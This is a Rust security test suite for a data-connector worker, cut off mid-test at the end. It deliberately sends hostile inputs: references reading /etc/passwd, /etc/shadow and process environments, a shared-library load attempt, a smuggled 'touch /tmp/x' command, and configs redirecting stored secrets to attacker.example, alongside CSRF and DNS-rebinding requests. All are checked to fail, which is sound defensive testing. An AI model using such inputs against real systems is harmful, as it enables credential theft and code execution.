//! Attacks on the real binary, as `SECURITY.md` describes its threat model:
//! REST callers and plugin code are not trusted. Each test plays the
//! attacker (a listener standing in for their server, secrets planted in
//! the environment and in files, a shared library that leaves a marker if
//! it is ever loaded, a swapped precompiled plugin, a hostile plugin) and
//! checks that the attack fails and the worker keeps running.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use serde_json::{Value, json};
use sluice_tests::http_receiver::Receiver;
use sluice_tests::kafka::{create_topic, produce, producer};
use sluice_tests::rest::ApiWorker;
use sluice_tests::{plugin, sluice, test_plugin, unique_topic};

const PLANTED: &str = "planted-secret-7f3a9c1e";
const PLANTED_ENV: &str = "SLUICE_TEST_PLANTED_SECRET";

/// A server the attacker controls: counts the connections it gets.
struct Trap {
    addr: String,
    hits: Arc<AtomicUsize>,
}

impl Trap {
    fn start() -> Trap {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = listener.local_addr().unwrap().to_string();
        let hits = Arc::new(AtomicUsize::new(0));
        let counted = hits.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                counted.fetch_add(1, Ordering::SeqCst);
                drop(stream);
            }
        });
        Trap { addr, hits }
    }

    fn hits(&self) -> usize {
        self.hits.load(Ordering::SeqCst)
    }
}

/// A Confluent HTTP Sink connector to `url` on `topic`, plus `extra`.
fn http_connector(name: &str, topic: &str, url: &str, extra: &[(&str, &str)]) -> Value {
    let mut config = json!({
        "connector.class": "io.confluent.connect.http.HttpSinkConnector",
        "topics": topic,
        "http.api.url": url,
        "request.body.format": "json",
        "batch.json.as.array": "true",
        "batch.max.size": "10",
        "value.converter": "org.apache.kafka.connect.json.JsonConverter",
        "value.converter.schemas.enable": "false",
        "reporter.result.topic.replication.factor": "1",
        "reporter.error.topic.replication.factor": "1"
    });
    for (k, v) in extra {
        config[*k] = (*v).into();
    }
    json!({"name": name, "config": config})
}

/// The worker's address (`127.0.0.1:port`).
fn address(w: &ApiWorker) -> String {
    w.base.trim_start_matches("http://").to_string()
}

/// Sends `request` as written and returns the status and the whole answer.
fn raw(addr: &str, request: &str) -> (u16, String) {
    let mut s = std::net::TcpStream::connect(addr).expect("connect to the worker");
    s.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    s.write_all(request.as_bytes()).unwrap();
    let mut answer = Vec::new();
    let _ = s.read_to_end(&mut answer);
    let text = String::from_utf8_lossy(&answer).into_owned();
    let status = text
        .split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or(0);
    (status, text)
}

fn post(addr: &str, path: &str, headers: &str, body: &str) -> (u16, String) {
    raw(
        addr,
        &format!(
            "POST {path} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n{headers}Content-Length: {}\r\n\r\n{body}",
            body.len()
        ),
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn rest_connectors_cannot_read_the_workers_secrets_through_config_providers() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("s.properties"), format!("key={PLANTED}\n")).unwrap();
    std::fs::write(dir.path().join("token"), PLANTED).unwrap();
    let d = dir.path().display().to_string();
    let trap = Trap::start();
    let w = ApiWorker::start_env(&[], None, &[(PLANTED_ENV, PLANTED)]).await;
    let topic = unique_topic("providers");
    let env_ref = format!("${{env:{PLANTED_ENV}}}");
    let file_ref = format!("${{file:{d}/s.properties:key}}");
    let dir_ref = format!("${{directory:{d}:token}}");
    let attacks: Vec<(&str, Vec<(&str, &str)>)> = vec![
        ("echo", vec![("batch.max.size", env_ref.as_str())]),
        ("file", vec![("batch.max.size", file_ref.as_str())]),
        ("directory", vec![("batch.max.size", dir_ref.as_str())]),
        ("passwd", vec![("bearer.token", "${file:/etc/passwd:root}")]),
        (
            "environ",
            vec![("bearer.token", "${directory:/proc/self:environ}")],
        ),
        (
            "kafka",
            vec![
                ("consumer.override.bootstrap.servers", trap.addr.as_str()),
                ("consumer.override.client.id", env_ref.as_str()),
            ],
        ),
    ];
    for (name, extra) in &attacks {
        let (status, answer) = w
            .call(
                "POST",
                "/connectors",
                Some(&http_connector(name, &topic, "http://127.0.0.1:9/", extra)),
            )
            .await;
        assert_eq!(status, 400, "{name}: {answer}");
        let text = answer.to_string();
        assert!(!text.contains(PLANTED), "{name}: the secret leaked: {text}");
        assert!(
            !text.contains("root:x:0"),
            "{name}: /etc/passwd leaked: {text}"
        );
        assert!(
            text.contains("not enabled") || text.contains("may not be overridden"),
            "{name}: {text}"
        );
    }
    // An S3 sink pointed at the trap with a resolved secret key.
    let s3 = json!({"name": "s3-steal", "config": {
        "connector.class": "io.confluent.connect.s3.S3SinkConnector",
        "topics": topic, "s3.bucket.name": "b", "s3.region": "us-east-1",
        "store.url": format!("http://{}", trap.addr), "flush.size": "1",
        "aws.access.key.id": "AKIAEXAMPLE", "aws.secret.access.key": env_ref,
        "format.class": "io.confluent.connect.s3.format.json.JsonFormat",
        "storage.class": "io.confluent.connect.s3.storage.S3Storage",
    }});
    let (status, answer) = w.call("POST", "/connectors", Some(&s3)).await;
    assert_eq!(status, 400, "{answer}");
    assert!(!answer.to_string().contains(PLANTED));
    // The validate endpoint resolves nothing either.
    let validate = http_connector(
        "v",
        &topic,
        "http://127.0.0.1:9/",
        &[("batch.max.size", &env_ref)],
    );
    let (_, answer) = w
        .call(
            "PUT",
            "/connector-plugins/HttpSinkConnector/config/validate",
            Some(&validate["config"]),
        )
        .await;
    assert!(!answer.to_string().contains(PLANTED), "{answer}");
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert_eq!(trap.hits(), 0, "nothing reached the attacker's listener");
    assert_eq!(w.code("GET", "/health").await, 200);

    // A worker that enables the env provider, bounded by a pattern: values
    // resolve, yet no message shows them, and other names stay out of reach.
    let w2 = ApiWorker::start_env(
        &[
            "--worker",
            "config.providers=env",
            "--worker",
            "config.providers.env.param.allowlist.pattern=SLUICE_TEST_PLANTED_.*",
        ],
        None,
        &[(PLANTED_ENV, PLANTED)],
    )
    .await;
    let (status, answer) = w2
        .call(
            "POST",
            "/connectors",
            Some(&http_connector(
                "echo",
                &topic,
                "http://127.0.0.1:9/",
                &[("batch.max.size", &env_ref)],
            )),
        )
        .await;
    assert_eq!(status, 400, "{answer}");
    let text = answer.to_string();
    assert!(!text.contains(PLANTED), "the secret leaked: {text}");
    assert!(
        text.contains(&env_ref),
        "the reference is named instead: {text}"
    );
    let (status, answer) = w2
        .call(
            "POST",
            "/connectors",
            Some(&http_connector(
                "home",
                &topic,
                "http://127.0.0.1:9/",
                &[("bearer.token", "${env:HOME}")],
            )),
        )
        .await;
    assert_eq!(status, 400, "{answer}");
    assert!(
        answer
            .to_string()
            .contains("allows no such environment variable"),
        "{answer}"
    );
    // A URL whose path comes from a provider (a webhook's secret path):
    // the status page, the status and the errors name the reference.
    let hooked_topic = unique_topic("hooked");
    create_topic(&hooked_topic, 1).await;
    let (status, answer) = w2
        .call(
            "POST",
            "/connectors",
            Some(&http_connector(
                "hooked",
                &hooked_topic,
                &format!("http://127.0.0.1:9/hooks/{env_ref}"),
                &[("retry.backoff.ms", "10"), ("max.retries", "1")],
            )),
        )
        .await;
    assert_eq!(status, 201, "{answer}");
    produce(
        &producer(),
        &hooked_topic,
        0,
        &[(None, Some(r#"{"n":1}"#.into()))],
    )
    .await;
    let deadline = std::time::Instant::now() + Duration::from_secs(60);
    let page = loop {
        let (_, page) = w2.call("GET", "/ui/data", None).await;
        let failed = page["connectors"][0]["errors"]
            .as_array()
            .is_some_and(|e| !e.is_empty());
        if failed || std::time::Instant::now() > deadline {
            break page;
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    let (_, status) = w2.call("GET", "/connectors/hooked/status", None).await;
    for text in [page.to_string(), status.to_string()] {
        assert!(!text.contains(PLANTED), "the secret leaked: {text}");
    }
    assert!(
        page.to_string().contains(&env_ref) && page["connectors"][0]["errors"][0].is_object(),
        "the destination and the error name the reference: {page}"
    );
    // The reporter's own cluster would get the worker's credentials too:
    // it writes to the connector's cluster instead, saying so.
    let (status, answer) = w
        .call(
            "POST",
            "/connectors",
            Some(&http_connector(
                "reporter",
                &topic,
                "http://127.0.0.1:9/",
                &[
                    ("reporter.bootstrap.servers", trap.addr.as_str()),
                    ("reporter.result.topic.name", "results"),
                ],
            )),
        )
        .await;
    assert_eq!(status, 201, "{answer}");
    assert_eq!(answer["config"]["reporter.bootstrap.servers"], trap.addr);
    let (_, answer) = w
        .call(
            "PUT",
            "/connector-plugins/HttpSinkConnector/config/validate",
            Some(&answer["config"]),
        )
        .await;
    assert!(
        answer
            .to_string()
            .contains("the reporter writes to the connector's own cluster"),
        "{answer}"
    );
    // Files are read only where the operator allows: not /dev/zero, not /etc.
    for path in ["/dev/zero", "/etc/shadow"] {
        let (status, answer) = w
            .call(
                "POST",
                "/connectors",
                Some(&http_connector(
                    "files",
                    &topic,
                    "https://127.0.0.1:9/",
                    &[("https.ssl.ca.location", path)],
                )),
            )
            .await;
        assert_eq!(status, 400, "{path}: {answer}");
        assert!(
            answer
                .to_string()
                .contains("sluice.connector.allowed.paths"),
            "{answer}"
        );
    }
    tokio::time::sleep(Duration::from_secs(1)).await;
    assert_eq!(trap.hits(), 0, "nothing reached the attacker's listener");
    assert_eq!(w.code("GET", "/health").await, 200);
    let _ = w.process.stop();
    let _ = w2.process.stop();
}

#[tokio::test(flavor = "multi_thread")]
async fn consumer_overrides_cannot_load_code_or_take_the_workers_credentials_elsewhere() {
    let dir = tempfile::tempdir().unwrap();
    let marker = dir.path().join("loaded");
    let source = dir.path().join("hostile.c");
    std::fs::write(
        &source,
        format!(
            "#include <stdio.h>\n__attribute__((constructor)) static void hit(void) {{ FILE *f = fopen(\"{}\", \"w\"); if (f) fclose(f); }}\n",
            marker.display()
        ),
    )
    .unwrap();
    let so = dir.path().join("libhostile.so");
    let built = std::process::Command::new("cc")
        .args(["-shared", "-fPIC", "-o"])
        .arg(&so)
        .arg(&source)
        .status()
        .expect("run cc (scripts/setup installs build-essential)");
    assert!(built.success());
    let trap = Trap::start();
    let topic = unique_topic("overrides");
    let so_path = so.display().to_string();
    for policy in ["", "All"] {
        let args: Vec<String> = if policy.is_empty() {
            Vec::new()
        } else {
            vec![
                "--worker".into(),
                format!("connector.client.config.override.policy={policy}"),
            ]
        };
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let w = ApiWorker::start(&args).await;
        let mut attacks = vec![
            ("consumer.override.plugin.library.paths", so_path.as_str()),
            ("consumer.override.ssl.engine.location", so_path.as_str()),
            ("consumer.override.debug", "all"),
            ("consumer.override.sasl.kerberos.kinit.cmd", "touch /tmp/x"),
            ("consumer.override.ssl.ca.location", "/etc/shadow"),
            // An MSK IAM login reading the worker's AWS config files.
            (
                "consumer.override.sasl.jaas.config",
                r#"software.amazon.msk.auth.iam.IAMLoginModule required awsProfileName="admin";"#,
            ),
            // The same behind a doubled prefix, which the consumer drops.
            (
                "consumer.override.consumer.plugin.library.paths",
                so_path.as_str(),
            ),
            ("consumer.override.consumer.debug", "all"),
            (
                "consumer.override.consumer.override.plugin.library.paths",
                so_path.as_str(),
            ),
            (
                "consumer.override.consumer.sasl.jaas.config",
                r#"software.amazon.msk.auth.iam.IAMLoginModule required awsProfileName="admin";"#,
            ),
        ];
        if policy.is_empty() {
            attacks.push(("consumer.override.bootstrap.servers", trap.addr.as_str()));
        }
        for (key, value) in attacks {
            let (status, answer) = w
                .call(
                    "POST",
                    "/connectors",
                    Some(&http_connector(
                        "o",
                        &topic,
                        "http://127.0.0.1:9/",
                        &[(key, value)],
                    )),
                )
                .await;
            assert_eq!(status, 400, "policy {policy:?}, {key}: {answer}");
            assert!(
                answer.to_string().contains(key),
                "the key is named: {answer}"
            );
        }
        // Tuning stays open under the default policy.
        let (status, answer) = w
            .call(
                "POST",
                "/connectors",
                Some(&http_connector(
                    "tuned",
                    &topic,
                    "http://127.0.0.1:9/",
                    &[("consumer.override.fetch.wait.max.ms", "50")],
                )),
            )
            .await;
        assert_eq!(status, 201, "{answer}");
        assert_eq!(w.code("GET", "/health").await, 200);
        let _ = w.process.stop();
    }
    assert!(!marker.exists(), "the shared library was loaded");
    assert_eq!(trap.hits(), 0, "the worker connected to the attacker");
}

/// An S3 connector from a REST caller without its own key pair would sign
/// with the worker's AWS credentials: it may name AWS's endpoints only, for
/// S3 and for STS, and the worker never connects to another host for it.
#[tokio::test(flavor = "multi_thread")]
async fn s3_connectors_cannot_take_the_workers_aws_credentials_elsewhere() {
    let trap = Trap::start();
    let w = ApiWorker::start(&[]).await;
    let url = format!("http://{}", trap.addr);
    let confluent = json!({
        "connector.class": "io.confluent.connect.s3.S3SinkConnector",
        "topics": "t",
        "s3.bucket.name": "b",
        "flush.size": "10",
        "format.class": "io.confluent.connect.s3.format.json.JsonFormat",
        "store.url": url,
    });
    let aiven = json!({
        "connector.class": "io.aiven.kafka.connect.s3.AivenKafkaConnectS3SinkConnector",
        "topics": "t",
        "aws.s3.bucket.name": "b",
        "aws.s3.region": "eu-west-1",
        "aws.sts.role.arn": "arn:aws:iam::123456789012:role/r",
        "aws.sts.role.session.name": "s",
        "aws.sts.config.endpoint": url,
    });
    for (config, key) in [
        (&confluent, "store.url"),
        (&aiven, "aws.sts.config.endpoint"),
    ] {
        let (status, answer) = w
            .call("PUT", "/connectors/elsewhere/config", Some(config))
            .await;
        assert_eq!(status, 400, "{key}: {answer}");
        let message = answer["message"].as_str().unwrap_or_default();
        assert!(
            message.contains(&format!("{key}: "))
                && message.contains("the worker's AWS credentials"),
            "{message}"
        );
        // With a key pair of its own, the endpoint is the caller's business.
        let mut own = config.clone();
        own["aws.access.key.id"] = json!("k");
        own["aws.secret.access.key"] = json!("s");
        // (Not the trap: this connector starts and connects.)
        own[key] = json!("http://127.0.0.1:9");
        let (status, answer) = w
            .call("PUT", "/connectors/validate-only/config", Some(&own))
            .await;
        assert_eq!(status, 201, "{key} with a key pair: {answer}");
        w.call("DELETE", "/connectors/validate-only", None).await;
    }
    let _ = w.process.stop();
    assert_eq!(trap.hits(), 0, "the worker connected to the attacker");
}

#[tokio::test(flavor = "multi_thread")]
async fn the_api_refuses_cross_site_requests_rebinding_and_slow_clients() {
    let w = ApiWorker::start(&[]).await;
    let addr = address(&w);
    let topic = unique_topic("csrf");
    let body = http_connector("csrf", &topic, "http://127.0.0.1:9/", &[]).to_string();
    // A cross-origin form or fetch without preflight sends text/plain.
    let (status, answer) = post(
        &addr,
        "/connectors",
        "Content-Type: text/plain\r\nOrigin: http://evil.example\r\n",
        &body,
    );
    assert!(status == 415 || status == 403, "{answer}");
    let (status, answer) = post(&addr, "/connectors", "Content-Type: text/plain\r\n", &body);
    assert_eq!(status, 415, "{answer}");
    let (status, answer) = post(&addr, "/connectors", "", &body);
    assert_eq!(status, 415, "a body without a content type: {answer}");
    assert_eq!(w.call("GET", "/connectors", None).await.1, json!([]));
    // A bodiless cross-site POST (restart) is refused by its Origin.
    let (status, answer) = post(
        &addr,
        "/connectors/x/restart",
        "Origin: http://evil.example\r\n",
        "",
    );
    assert_eq!(status, 403, "{answer}");
    // The same without Origin (curl) reaches the API: 404 for no such connector.
    let (status, _) = post(&addr, "/connectors/x/restart", "", "");
    assert_eq!(status, 404);
    // DNS rebinding: a name that is not the API's.
    let (status, answer) = raw(
        &addr,
        "GET /connectors HTTP/1.1\r\nHost: rebind.example:8083\r\nConnection: close\r\n\r\n",
    );
    assert_eq!(status, 403, "{answer}");
    let port = addr.rsplit(':').next().unwrap();
    let (status, _) = raw(
        &addr,
        &format!("GET /connectors HTTP/1.1\r\nHost: localhost:{port}\r\nConnection: close\r\n\r\n"),
    );
    assert_eq!(status, 200);
    // The status page cannot be framed and runs only its own script.
    let (_, page) = raw(
        &addr,
        &format!("GET /ui HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n\r\n"),
    );
    let lower = page.to_ascii_lowercase();
    assert!(lower.contains("x-frame-options: deny"), "{page:.400}");
    assert!(
        lower.contains("content-security-policy: default-src 'none'; script-src 'sha256-"),
        "{page:.600}"
    );
    assert!(lower.contains("frame-ancestors 'none'"));

    // A client that never finishes its headers is cut off.
    let started = std::time::Instant::now();
    let mut slow = std::net::TcpStream::connect(&addr).unwrap();
    slow.set_read_timeout(Some(Duration::from_secs(30)))
        .unwrap();
    slow.write_all(format!("GET / HTTP/1.1\r\nHost: {addr}\r\n").as_bytes())
        .unwrap();
    // Meanwhile: more idle connections than the API serves at once.
    let idle: Vec<_> = (0..256)
        .map(|_| std::net::TcpStream::connect(&addr).unwrap())
        .collect();
    let mut one_more = std::net::TcpStream::connect(&addr).unwrap();
    one_more
        .set_read_timeout(Some(Duration::from_secs(5)))
        .unwrap();
    let _ = one_more.write_all(format!("GET /health HTTP/1.1\r\nHost: {addr}\r\n\r\n").as_bytes());
    let mut buf = [0u8; 64];
    let n = one_more.read(&mut buf).unwrap_or(0);
    assert_eq!(n, 0, "a connection over the cap is closed at once");
    let n = slow.read(&mut buf).unwrap_or(0);
    let waited = started.elapsed();
    assert!(
        n == 0 || String::from_utf8_lossy(&buf[..n]).contains("408"),
        "slow headers: {:?}",
        &buf[..n]
    );
    assert!(waited < Duration::from_secs(25), "cut off after {waited:?}");
    drop(idle);
    // The worker serves again once they are gone.
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    loop {
        let (status, _) = tokio::task::spawn_blocking({
            let addr = addr.clone();
            move || {
                raw(
                    &addr,
                    &format!("GET /health HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n\r\n"),
                )
            }
        })
        .await
        .unwrap();
        if status == 200 {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "the API never served again"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    let _ = w.process.stop();
}

#[tokio::test(flavor = "multi_thread")]
async fn an_api_beyond_loopback_requires_a_token_and_reads_can_too() {
    let cache = tempfile::tempdir().unwrap();
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let mut cmd = sluice();
    cmd.env("SLUICE_CACHE_DIR", cache.path())
        .args(["run", "--listeners", &format!("http://0.0.0.0:{port}")])
        .args(["--bootstrap-servers", &sluice_tests::kafka_bootstrap()])
        .arg("--plugin-dir")
        .arg(sluice_tests::plugin_dir());
    let run = sluice_tests::process::Running::spawn(cmd);
    let addr = format!("127.0.0.1:{port}");
    let token_file = cache.path().join("api-token");
    let deadline = std::time::Instant::now() + Duration::from_secs(30);
    while !token_file.exists() {
        assert!(std::time::Instant::now() < deadline, "no token was made");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    tokio::time::sleep(Duration::from_millis(500)).await;
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(&token_file).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600);
    let token = std::fs::read_to_string(&token_file).unwrap();
    assert!(token.len() >= 32);
    let put = |auth: &str| {
        let body = r#"{"level":"DEBUG"}"#;
        raw(
            &addr,
            &format!(
                "PUT /admin/loggers/sluice::api HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\nContent-Type: application/json\r\n{auth}Content-Length: {}\r\n\r\n{body}",
                body.len()
            ),
        )
    };
    assert_eq!(put("").0, 401);
    assert_eq!(put("Authorization: Bearer wrong\r\n").0, 401);
    assert_eq!(put(&format!("Authorization: Bearer {token}\r\n")).0, 200);
    let stderr = run.stop_cleanly();
    assert!(!stderr.contains(&token), "the token is never logged");
    assert!(stderr.contains("api-token"), "its file is: {stderr}");

    // With --api-auth-reads and a token file, reads need it too, but /health.
    let token_path = cache.path().join("my-token");
    std::fs::write(&token_path, "read-token-123\n").unwrap();
    let w = ApiWorker::start(&[
        "--api-token-file",
        token_path.to_str().unwrap(),
        "--api-auth-reads",
    ])
    .await;
    let a = address(&w);
    let get = |path: &str, auth: &str| {
        raw(
            &a,
            &format!("GET {path} HTTP/1.1\r\nHost: {a}\r\nConnection: close\r\n{auth}\r\n"),
        )
        .0
    };
    assert_eq!(get("/connectors", ""), 401);
    assert_eq!(get("/metrics", ""), 401);
    assert_eq!(get("/health", ""), 200);
    assert_eq!(
        get("/connectors", "Authorization: Bearer read-token-123\r\n"),
        200
    );
    let _ = w.process.stop();
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// The precompiled artifact of `wasm` in `cache`.
fn artifact(cache: &Path, wasm: &Path) -> std::path::PathBuf {
    use sha2::Digest;
    let digest = hex(&sha2::Sha256::digest(std::fs::read(wasm).unwrap()));
    std::fs::read_dir(cache.join("components"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| {
            p.file_name()
                .and_then(|n| n.to_str())
                .is_some_and(|n| n.starts_with(&digest) && n.ends_with(".cwasm"))
        })
        .unwrap_or_else(|| panic!("no artifact of {}", wasm.display()))
}

fn plugin_test(cache: &Path, wasm: &Path, config: &[&str], input: &Path) -> (bool, String, String) {
    let mut cmd = sluice();
    cmd.env("SLUICE_CACHE_DIR", cache)
        .args(["plugin", "test"])
        .arg(wasm)
        .arg("-i")
        .arg(input);
    for c in config {
        cmd.args(["-c", c]);
    }
    let out = cmd.output().unwrap();
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn a_swapped_or_planted_precompiled_plugin_is_never_run() {
    let base = tempfile::tempdir().unwrap();
    let cache = base.path().join("cache");
    let input = base.path().join("in.jsonl");
    std::fs::write(&input, "{\"value\":{\"a\":1}}\n").unwrap();
    let (insert, drop) = (plugin("insert-field"), plugin("drop"));
    let (ok, out, err) = plugin_test(&cache, &insert, &["topic.field=t"], &input);
    assert!(ok && out.contains("\"t\":\"test\""), "{out}{err}");
    assert!(plugin_test(&cache, &drop, &[], &input).0);
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(&cache).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o700, "the cache is made private");
    // The drop plugin's native code copied over insert-field's artifact.
    std::fs::copy(artifact(&cache, &drop), artifact(&cache, &insert)).unwrap();
    let (ok, out, err) = plugin_test(&cache, &insert, &["topic.field=t"], &input);
    assert!(
        ok && out.contains("\"t\":\"test\""),
        "insert-field still runs its own code: {out}{err}"
    );
    assert!(err.contains("did not write for this plugin"), "{err}");
    // A planted artifact (no tag) is refused the same way.
    std::fs::write(artifact(&cache, &insert), b"\x7fELF not a real artifact").unwrap();
    let (ok, out, err) = plugin_test(&cache, &insert, &["topic.field=t"], &input);
    assert!(ok && out.contains("\"t\":\"test\""), "{out}{err}");

    // A cache directory others may write to is refused, naming the fix.
    let shared = tempfile::tempdir().unwrap();
    std::fs::set_permissions(shared.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
    let (ok, _, err) = plugin_test(shared.path(), &insert, &["topic.field=t"], &input);
    assert!(!ok && err.contains("chmod 700"), "{err}");
    // No cache directory at all: an error, never a shared /tmp fallback.
    let out = std::process::Command::new(sluice_tests::sluice_bin())
        .env_remove("SLUICE_CACHE_DIR")
        .env_remove("XDG_CACHE_HOME")
        .env_remove("HOME")
        .args(["plugins"])
        .arg(sluice_tests::plugin_dir())
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        !out.status.success() && err.contains("SLUICE_CACHE_DIR"),
        "{err}"
    );
}

/// Produces `{"n":<n>}` to `topic` and returns the request that delivered it.
async fn delivered(
    receiver: &Receiver,
    topic: &str,
    n: i64,
) -> sluice_tests::http_receiver::Received {
    produce(
        &producer(),
        topic,
        0,
        &[(None, Some(format!(r#"{{"n":{n}}}"#)))],
    )
    .await;
    let mark = format!("\"n\":{n}");
    let carries = |x: &sluice_tests::http_receiver::Received| {
        String::from_utf8_lossy(&x.body).contains(&mark)
    };
    let what = format!("record {n}");
    receiver
        .wait_for(60, &what, |r| r.iter().any(carries))
        .await
        .into_iter()
        .find(carries)
        .expect("the record's request")
}

#[tokio::test(flavor = "multi_thread")]
async fn secrets_never_reach_an_output_and_a_masked_config_round_trips() {
    let secrets = [
        "tok-SECRET-1-bearer",
        "key-SECRET-2-header",
        "pw-SECRET-3-url",
        "oauth-SECRET-4-unapplied",
    ];
    let topic = unique_topic("masking");
    create_topic(&topic, 1).await;
    let receiver = Receiver::start().await;
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("worker.log");
    let w = ApiWorker::start_env(&[], Some(&log), &[("SLUICE_LOG", "trace")]).await;
    let url = format!("http://{}/in?sig={}", receiver.addr, secrets[2]);
    let name = "masked";
    let connector = http_connector(
        name,
        &topic,
        &url,
        &[
            ("bearer.token", secrets[0]),
            ("auth.type", "BEARER"),
            (
                "headers",
                &format!("X-API-Key: {}|Accept: application/json", secrets[1]),
            ),
            ("oauth2.client.secret", secrets[3]),
        ],
    );
    let (status, answer) = w.call("POST", "/connectors", Some(&connector)).await;
    assert_eq!(status, 201, "{answer}");
    produce(&producer(), &topic, 0, &[(None, Some(r#"{"n":1}"#.into()))]).await;
    let got = receiver
        .wait_for(60, "the first record", |r| !r.is_empty())
        .await;
    assert_eq!(
        got[0].header("authorization"),
        Some(&*format!("Bearer {}", secrets[0]))
    );

    // Every channel a caller or an operator reads.
    let mut channels: Vec<(String, String)> = Vec::new();
    for path in [
        format!("/connectors/{name}/config"),
        format!("/connectors/{name}"),
        "/connectors?expand=info&expand=status".to_string(),
        format!("/connectors/{name}/status"),
        "/ui/data".to_string(),
    ] {
        channels.push((path.clone(), w.call("GET", &path, None).await.1.to_string()));
    }
    channels.push(("/metrics".into(), w.metrics().await.0));
    let (_, v) = w
        .call(
            "PUT",
            "/connector-plugins/HttpSinkConnector/config/validate",
            Some(&connector["config"]),
        )
        .await;
    channels.push(("validate".into(), v.to_string()));
    let json_file = dir.path().join("c.json");
    std::fs::write(&json_file, connector.to_string()).unwrap();
    let import = sluice().arg("import").arg(&json_file).output().unwrap();
    channels.push((
        "sluice import".into(),
        format!(
            "{}{}",
            String::from_utf8_lossy(&import.stdout),
            String::from_utf8_lossy(&import.stderr)
        ),
    ));
    // The GET | PUT round trip: the masked values keep the stored ones.
    let (_, shown) = w
        .call("GET", &format!("/connectors/{name}/config"), None)
        .await;
    assert_eq!(shown["bearer.token"], "[hidden]");
    let (status, answer) = w
        .call("PUT", &format!("/connectors/{name}/config"), Some(&shown))
        .await;
    assert_eq!(status, 200, "{answer}");
    w.wait_state(name, "RUNNING").await;
    let after = delivered(&receiver, &topic, 2).await;
    assert_eq!(
        after.header("authorization"),
        Some(&*format!("Bearer {}", secrets[0]))
    );
    assert_eq!(after.header("x-api-key"), Some(secrets[1]));
    // A masked config sent to another URL does not take the secrets along.
    let mut moved = shown.clone();
    moved["http.api.url"] = "http://attacker.example:9/in".into();
    let (status, answer) = w
        .call("PUT", &format!("/connectors/{name}/config"), Some(&moved))
        .await;
    assert_eq!(status, 400, "{answer}");
    assert!(
        answer.to_string().contains("send their values again"),
        "{answer}"
    );
    // Nor does a PATCH of the URL alone, which sends no secret at all.
    let (status, answer) = w
        .call(
            "PATCH",
            &format!("/connectors/{name}/config"),
            Some(&json!({"http.api.url": "http://attacker.example:9/in"})),
        )
        .await;
    assert_eq!(status, 400, "{answer}");
    assert!(
        answer.to_string().contains("http.api.url changed")
            && answer.to_string().contains("bearer.token"),
        "{answer}"
    );
    // A separator that cuts a stored header into pieces: the error names
    // the entries, never their text.
    let (status, answer) = w
        .call(
            "PATCH",
            &format!("/connectors/{name}/config"),
            Some(&json!({"header.separator": ":"})),
        )
        .await;
    assert_eq!(status, 400, "{answer}");
    assert!(
        answer.to_string().contains("is not `Name: value`"),
        "{answer}"
    );
    channels.push(("a PATCH of the header separator".into(), answer.to_string()));
    // A PATCH that moves nothing keeps them.
    let (status, answer) = w
        .call(
            "PATCH",
            &format!("/connectors/{name}/config"),
            Some(&json!({"batch.linger.ms": "20"})),
        )
        .await;
    assert_eq!(status, 200, "{answer}");
    w.wait_state(name, "RUNNING").await;
    let after = delivered(&receiver, &topic, 3).await;
    assert_eq!(
        after.header("authorization"),
        Some(&*format!("Bearer {}", secrets[0]))
    );
    let stderr = w.process.stop().1;
    channels.push((
        "the log at trace level".into(),
        std::fs::read_to_string(&log).unwrap_or_default() + &stderr,
    ));
    for (channel, text) in &channels {
        // A manifest made by import carries the options it applies, as a
        // manifest must: only what it does not apply is left out.
        let checked: &[&str] = if channel == "sluice import" {
            &secrets[3..]
        } else {
            &secrets
        };
        for s in checked {
            assert!(
                !text.contains(s),
                "{s} leaked through {channel}: {}",
                excerpt(text, s)
            );
        }
    }
}

fn excerpt(text: &str, needle: &str) -> String {
    let i = text.find(needle).unwrap_or(0);
    text[i.saturating_sub(200)..(i + 200).min(text.len())].to_string()
}

#[test]
fn hostile_plugins_fail_their_batch_and_never_flood_or_forge_the_log() {
    let cache = sluice_tests::cache_dir();
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("in.jsonl");
    let lines: Vec<String> = (0..20)
        .map(|i| format!("{{\"value\":{{\"n\":{i}}}}}"))
        .collect();
    std::fs::write(&input, lines.join("\n")).unwrap();
    let hostile = test_plugin("hostile");
    for (mode, refusal) in [
        ("alias-values", "each byte may be used once"),
        ("shared-headers", "each header belongs to one record"),
        ("keep-twice", "each input's headers may be kept once"),
    ] {
        let (ok, out, err) = plugin_test(&cache, &hostile, &[&format!("mode={mode}")], &input);
        assert!(!ok && err.contains(refusal), "{mode}: {out}{err}");
        assert!(err.contains("malformed reply"), "{err}");
    }
    // One 1 MiB value kept by 1,000 outputs: a gigabyte for a 40 KB reply.
    let big = dir.path().join("big.jsonl");
